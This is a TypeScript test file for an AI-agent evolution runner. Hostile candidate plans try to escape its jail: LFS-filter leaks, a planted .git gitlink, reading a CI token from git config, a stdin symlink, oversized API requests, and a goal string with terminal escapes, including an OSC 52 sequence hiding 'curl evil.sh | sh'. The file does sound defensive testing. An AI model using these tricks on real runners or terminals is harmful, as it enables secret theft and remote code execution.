/**
 * The runner's own doors, tried by hostile candidates through the real CLI and jail (one two-generation run for the
 * file, as root on CI): the runner's git and the user's global config, a `.git` file pointing elsewhere, the
 * target's git config, the jail's uid, a package.json that is a link to the runner's stdin, requests sized to stop
 * the run or to cost the runner (bodies, transcripts), control characters in an export, and --push.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reply, startStandin, text, type Standin } from '../../src/standin/index.ts';
import { passingPlan } from './toy.ts';
import { git, makeRepo, ROOT, tempDir } from './helpers.ts';
import { makeHostileRepo, type HostilePlan } from './hostile-toy.ts';

const REAL_KEY = 'sk-ant-qa-trust-boundary-real-key-3141592653';
const TOKEN = 'ghs_trustboundarytoken0123456789';
const ESCAPES = 'escapes \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b31m';
let leaks = 0;
let leakServer: Server;
let port = 0;
const home = tempDir('evolve-qa-home-');
const marker = path.join(tempDir('evolve-qa-marker-'), 'filter-ran');
const hidden = makeRepo({ 'secret.txt': 'another repository the jail hides\n' });

/** Requests to the proxy that declare a 40 MiB body, send 1 MiB of it and wait: the answers' statuses (-1: none). */
const UPLOADS = `const http = await import('node:http'); const url = new URL(process.env.ANTHROPIC_BASE_URL);
const one = () => new Promise((resolve) => { const req = http.request({ host: url.hostname, port: url.port, method: 'POST', path: '/v1/messages',
  headers: { 'content-type': 'application/json', 'x-api-key': process.env.ANTHROPIC_API_KEY, 'anthropic-version': '2023-06-01', 'content-length': String(40 << 20) } });
  req.on('response', (res) => { res.resume(); resolve(res.statusCode); }); req.on('error', () => resolve(-1)); req.write(Buffer.alloc(1 << 20, 32)); });
const started = Date.now(); const statuses = await Promise.all(Array.from({ length: 16 }, one));
const fs = await import('node:fs'); fs.writeFileSync('uploads.json', JSON.stringify({ statuses, ms: Date.now() - started }));
const big = { model: process.env.EVOLVE_MODEL, max_tokens: 64, messages: [{ role: 'user', content: [
  { type: 'text', text: 'x'.repeat(150000) }, { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'A'.repeat(60000) } }] }] };
const r = await fetch(process.env.ANTHROPIC_BASE_URL + '/v1/messages', { method: 'POST', body: JSON.stringify(big),
  headers: { 'content-type': 'application/json', 'x-api-key': process.env.ANTHROPIC_API_KEY, 'anthropic-version': '2023-06-01' } });
fs.writeFileSync('big-call.txt', String(r.status));`;

/** Two calls sized past what could ever fit: max_tokens 1e12, and the model's whole output with a $1 budget. */
const ABSURD = `const call = (max_tokens) => fetch(process.env.ANTHROPIC_BASE_URL + '/v1/messages', { method: 'POST',
  headers: { 'content-type': 'application/json', 'x-api-key': process.env.ANTHROPIC_API_KEY, 'anthropic-version': '2023-06-01' },
  body: JSON.stringify({ model: process.env.EVOLVE_MODEL, max_tokens, messages: [{ role: 'user', content: 'hi' }] }) }).then((r) => r.status);
(await import('node:fs')).writeFileSync('statuses.txt', [await call(1e12), await call(128000)].join(' '));`;

const lfsPointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:0000\nsize 12\n';
const generation1: HostilePlan[] = [];
let target = '';
let remote = '';
const plansFor = () => [
  { ...passingPlan(1), goal: 'filters', files: { ...passingPlan(1).files, '.gitattributes': '* filter=lfs diff=lfs\n',
    '.lfsconfig': `[lfs]\n\turl = http://127.0.0.1:${port}/leak\n`, 'leak.bin': lfsPointer } },
  { ...passingPlan(2), goal: 'planted .git file', files: { ...passingPlan(2).files, 'sub/.git': `gitdir: ${path.join(hidden, '.git')}\n`, 'sub/x.txt': 'x\n' } },
  { ...passingPlan(3), goal: 'read git config', exec: `cat ${target}/.git/config > seen-config.txt 2>&1; true` },
  { ...passingPlan(4), goal: 'whoami', exec: 'id -u > uid.txt; id -g >> uid.txt' },
  { ...passingPlan(5), goal: 'stdin package.json', exec: 'ln -sfn /dev/stdin package.json' },
  { ...passingPlan(6), goal: 'absurd max_tokens', js: ABSURD },
  { ...passingPlan(7), goal: 'big bodies', js: UPLOADS },
  { ...passingPlan(8), goal: ESCAPES },
  { ...passingPlan(9), goal: 'honest' },
] as HostilePlan[];

let standin: Standin;
let db: string;
let run: { code: number | null; stderr: string };
type Row = { id: string; parent_id: string | null; generation: number; goal: string | null; status: string; error: string | null; commit_sha: string | null; survived: number; branch: string };
let rows: Row[];
/** A first-generation child by its plan's goal (or, when its agent never reported one, by its place in the order). */
const g1 = (goal: string) => rows.find((r) => r.generation === 1 && r.goal === goal)
  ?? rows.filter((r) => r.generation === 1)[generation1.findIndex((p) => p.goal === goal)];

/** The CLI as a user runs it, with a terminal-like stdin that never ends (a read of /dev/stdin would wait forever). */
function evolveWithOpenStdin(args: string[], env: Record<string, string>): Promise<{ code: number | null; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(ROOT, 'bin', 'evolve.mjs'), ...args], {
      env: { PATH: process.env.PATH ?? '', ...env }, stdio: ['pipe', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolve({ code, stderr }));
  });
}

beforeAll(async () => {
  leakServer = createServer((_req, res) => { leaks++; res.end('ok'); });
  await new Promise<void>((resolve) => leakServer.listen(0, '127.0.0.1', resolve));
  port = (leakServer.address() as { port: number }).port;
  // The user's ~/.gitconfig holds what `git lfs install` writes, here a filter that would tell on itself.
  const filter = path.join(home, 'lfs-filter.sh');
  writeFileSync(filter, `#!/bin/sh\ntouch ${marker}\nnode -e "fetch('http://127.0.0.1:${port}/leak').catch(()=>{})"\ncat\n`);
  chmodSync(filter, 0o755);
  writeFileSync(path.join(home, '.gitconfig'), `[filter "lfs"]\n\tclean = ${filter}\n\tsmudge = ${filter}\n\tprocess = ${filter}\n\trequired = true\n`);
  target = makeHostileRepo();
  git(target, 'config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${TOKEN}`);
  remote = tempDir('evolve-qa-remote-');
  git(remote, 'init', '-q', '--bare');
  git(remote, 'config', 'receive.advertisePushOptions', 'true');
  writeFileSync(path.join(remote, 'hooks', 'pre-receive'), `#!/bin/sh\necho "$GIT_PUSH_OPTION_0" >> ${remote}/push-options\ncat >/dev/null\n`);
  chmodSync(path.join(remote, 'hooks', 'pre-receive'), 0o755);
  generation1.push(...plansFor());
  // Plans by the toy agent's own request ("history N"); the hostile calls in between get a plain answer.
  let next = 0;
  standin = await startStandin({ apiKey: REAL_KEY, script: (request) => {
    const first = request.messages[0]?.content;
    if (typeof first !== 'string' || !/^history \d+$/.test(first)) return reply(text('ok'));
    const plan = next < generation1.length ? generation1[next] : passingPlan(100 + next);
    next++;
    return reply(text(JSON.stringify(plan)));
  } });
  db = path.join(tempDir(), 'lineage.db');
  const n = String(generation1.length);
  run = await evolveWithOpenStdin(['--population', n, '--generations', '2', '--survivors', n, '--concurrency', '1',
    '--candidate-timeout', '40', '--candidate-budget-usd', '1', '--push', remote, '--no-tui', '--target', target, '--db', db],
  { ANTHROPIC_API_KEY: REAL_KEY, ANTHROPIC_BASE_URL: standin.url, HOME: home });
  if (existsSync(db)) {
    const sql = new Database(db, { readonly: true });
    rows = sql.prepare('SELECT * FROM candidates ORDER BY generation, started_at').all() as Row[];
    sql.close();
  }
}, 400_000);
afterAll(async () => {
  await standin?.close();
  await new Promise<void>((resolve) => leakServer?.close(() => resolve()));
});

describe("the runner's own doors", () => {
  it('the run ends done, both generations judged', () => {
    expect(run.code, run.stderr).toBe(0);
    expect(rows.filter((r) => r.generation === 2)).toHaveLength(generation1.length);
    expect(g1('honest')).toMatchObject({ status: 'passed', survived: 1 });
  });

  it("a candidate's attributes never run the filters of the user's global config (no LFS smudge, no request)", () => {
    expect(g1('filters').status).toBe('passed');
    expect(existsSync(marker)).toBe(false);
    expect(leaks).toBe(0);
    expect(git(target, 'show', `${g1('filters').commit_sha}:leak.bin`)).toBe(lfsPointer.trim());
  });

  it('a planted .git file is never followed: no gitlink, the files beside it committed', () => {
    const row = g1('planted .git file');
    const tree = git(target, 'ls-tree', '-r', row.commit_sha!);
    expect(tree).not.toMatch(/^160000/m);
    expect(tree).toContain('\tsub/x.txt');
    expect(tree).not.toContain(git(hidden, 'rev-parse', 'HEAD'));
  });

  it("the target's .git/config (a CI token in an extraheader) is hidden in the jail", () => {
    const seen = git(target, 'show', `${g1('read git config').commit_sha}:seen-config.txt`);
    expect(seen).not.toContain(TOKEN);
    expect(git(target, 'log', '--all', '-p')).not.toContain(TOKEN);
  });

  it('the agent runs as an unprivileged uid and gid inside the jail', () => {
    expect(git(target, 'show', `${g1('whoami').commit_sha}:uid.txt`).split('\n')).toEqual(['1000', '1000']);
  });

  it("a package.json linked to /dev/stdin does not hang the next generation (read from git, not the runner's stdin)", () => {
    const parent = g1('stdin package.json');
    expect(parent.survived).toBe(1);
    const children = rows.filter((r) => r.generation === 2 && r.parent_id === parent.id);
    for (const child of children) expect(['passed', 'failed', 'rejected', 'budget_exhausted']).toContain(child.status);
  });

  it('max_tokens 1e12 and a call whose output alone cannot fit are refused for that candidate; the run goes on; no count_tokens', () => {
    const row = g1('absurd max_tokens');
    expect(git(target, 'show', `${row.commit_sha}:statuses.txt`)).toBe('400 402');
    expect(row.status).toBe('budget_exhausted');
    expect(standin.requests.filter((r) => r.path.startsWith('/v1/messages/count_tokens'))).toHaveLength(0);
    const sql = new Database(db, { readonly: true });
    const scopes = sql.prepare("SELECT json_extract(data_json, '$.scope') AS scope FROM events WHERE kind = 'budget_exhausted'").all() as { scope: string }[];
    sql.close();
    expect(scopes.map((s) => s.scope)).toEqual(['candidate']);
  });

  it('declared 40 MiB bodies are refused before they are read, and what one call stores is capped', () => {
    const row = g1('big bodies');
    expect(row.status, row.error ?? '').toBe('passed');
    const uploads = JSON.parse(git(target, 'show', `${row.commit_sha}:uploads.json`)) as { statuses: number[]; ms: number };
    // 413, or the connection closed under the upload still being written (-1): never read, never waited for
    expect(uploads.statuses.every((s) => s === 413 || s === -1)).toBe(true);
    expect(uploads.statuses).toContain(413);
    expect(uploads.ms).toBeLessThan(10_000);
    expect(git(target, 'show', `${row.commit_sha}:big-call.txt`)).toBe('200');
    const sql = new Database(db, { readonly: true });
    const stored = (sql.prepare('SELECT request_gz AS r FROM transcripts WHERE candidate_id = ?').all(row.id) as { r: Buffer }[])
      .map((t) => gunzipSync(t.r).toString('utf8'));
    sql.close();
    const big = stored.find((t) => t.includes('not stored'));
    expect(big).toBeDefined();
    expect(big!.length).toBeLessThan(100_000); // the call sent 210 KB
    expect(big).toContain('[base64 payload of 60000 characters, not stored]');
  });

  it('export (dot, mermaid, json) writes no control character a candidate put in its goal', () => {
    for (const format of ['dot', 'mermaid', 'json']) {
      const out = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'evolve.mjs'), 'export', '--format', format, '--db', db], { encoding: 'utf8' });
      expect(out.status, out.stderr).toBe(0);
      expect(out.stdout).toContain('escapes');
      // eslint-disable-next-line no-control-regex
      expect(out.stdout.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    }
  });

  it('--push warns at start, and pushes the survivors with [skip ci] in their tips and the ci.skip push option', () => {
    expect(run.stderr).toMatch(/WARNING: --push .*\[skip ci\]/);
    const pushed = rows.filter((r) => r.survived && r.generation === 2);
    expect(pushed.length).toBeGreaterThan(0);
    for (const r of pushed) expect(git(remote, 'log', '-1', '--format=%s', r.branch)).toContain('[skip ci]');
    expect(readFileSync(path.join(remote, 'push-options'), 'utf8')).toContain('ci.skip');
  });
});
